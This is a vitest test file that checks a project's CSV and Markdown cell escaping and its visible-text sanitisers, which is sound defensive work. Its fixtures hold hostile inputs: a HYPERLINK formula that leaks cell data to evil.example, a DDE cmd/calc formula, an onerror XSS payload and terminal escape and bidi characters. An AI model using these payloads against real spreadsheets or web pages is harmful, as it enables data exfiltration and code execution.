/**
 * The project's one CSV cell writer, one Markdown cell writer and one
 * "make unsafe characters visible" function (src/model/text): what each does
 * to a hostile value, and that safe values pass unchanged.
 */
import { describe, expect, it } from 'vitest';
import { csvField } from '../../src/model/text/csv.ts';
import { markdownCell } from '../../src/model/text/markdown.ts';
import { cutText, displayText, safeJson, visibleText } from '../../src/model/text/visible.ts';

describe('csvField', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
    ],
    ['@SUM(1+1)*cmd|"/C calc"!A0', `"'@SUM(1+1)*cmd|""/C calc""!A0"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
  ])('neutralises the formula %j with a leading quote', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('leaves ordinary values as they are, quoting only what RFC 4180 needs', () => {
    expect(csvField('shop/web[Deployment]')).toBe('shop/web[Deployment]');
    expect(csvField('TCP 80,UDP 53')).toBe('"TCP 80,UDP 53"');
    expect(csvField('a=b')).toBe('a=b'); // a trigger only counts at the start
    expect(csvField('multi\nline')).toBe('"multi\nline"');
  });

  it('makes control and bidi characters visible', () => {
    expect(csvField('a\x1b[2Jb\u202ec')).toBe('a\\u001b[2Jb\\u202ec');
  });
});

describe('markdownCell', () => {
  it('renders HTML as text', () => {
    expect(markdownCell('<img src=x onerror=alert(1)>')).toBe('&lt;img src=x onerror=alert\\(1\\)&gt;');
    expect(markdownCell('a & b')).toBe('a &amp; b');
  });

  it('forms no link, image, code span or emphasis', () => {
    expect(markdownCell('![x](http://evil.example/p.png)')).toBe('![x]\\(http://evil.example/p.png\\)');
    expect(markdownCell('`a`*b*_c_~~d~~')).toBe('\\`a\\`\\*b\\*\\_c\\_\\~\\~d\\~\\~');
  });

  it('keeps one row per line: pipes escaped, line breaks as <br>, controls visible', () => {
    expect(markdownCell('a|b\\c')).toBe('a\\|b\\\\c');
    expect(markdownCell('one\r\ntwo\rthree\nfour')).toBe('one<br>two<br>three<br>four');
    expect(markdownCell('x\x07y\x9bz')).toBe('x\\\\u0007y\\\\u009bz');
  });

  it('leaves connectivity ids and connections as they are', () => {
    expect(markdownCell('10.0.0.0-10.255.255.255[External]')).toBe('10.0.0.0-10.255.255.255[External]');
    expect(markdownCell('TCP 80,UDP 53')).toBe('TCP 80,UDP 53');
  });
});

describe('visibleText', () => {
  it('escapes C0, DEL, C1, bidi, invisible and tag characters; keeps everything else', () => {
    expect(visibleText('\0\x07\x1b\x7f\x9b')).toBe('\\u0000\\u0007\\u001b\\u007f\\u009b');
    expect(visibleText('a\u202eb\u2066c\u2069\u200b\ufeff\u2028')).toBe(
      'a\\u202eb\\u2066c\\u2069\\u200b\\ufeff\\u2028',
    );
    expect(visibleText('tag\u{e0041}')).toBe('tag\\u{e0041}');
    expect(visibleText('lone \ud800')).toBe('lone \\ud800');
    expect(visibleText('café 東京 😀 → ok')).toBe('café 東京 😀 → ok');
  });

  it('keeps tab and line breaks only when asked', () => {
    expect(visibleText('a\tb\nc\rd')).toBe('a\\u0009b\\u000ac\\u000dd');
    expect(visibleText('a\tb\nc\rd', { keepWhitespace: true })).toBe('a\tb\nc\rd');
  });
});

describe('safeJson', () => {
  it('escapes what JSON.stringify leaves raw, and reads back the same value', () => {
    const value = { name: 'a\x7fb\x9bc\u202ed\u{e0041}e\nf' };
    const json = safeJson(JSON.stringify(value, null, 2));
    expect(json).not.toMatch(/[\x7f-\x9f\u202e]/);
    expect(json).toContain('\\u202e');
    expect(json).toContain('\\udb40\\udc41'); // the tag character as a JSON surrogate pair
    expect(JSON.parse(json)).toEqual(value);
    expect(json.split('\n')).toHaveLength(3); // indentation line breaks stay
  });
});

describe('cutText / displayText', () => {
  it('cuts a long name with a count of the rest', () => {
    expect(displayText('x'.repeat(10_000), 200)).toBe(`${'x'.repeat(200)}… (9,800 more characters)`);
    expect(cutText('abc', 3)).toEqual({ head: 'abc', more: '' });
    expect(cutText('abcd', 3)).toEqual({ head: 'abc', more: '… (1 more character)' });
  });

  it('counts code points and never splits a surrogate pair', () => {
    expect(cutText('😀😀😀', 2)).toEqual({ head: '😀😀', more: '… (1 more character)' });
    expect(cutText('😀😀', 2)).toEqual({ head: '😀😀', more: '' });
  });
});
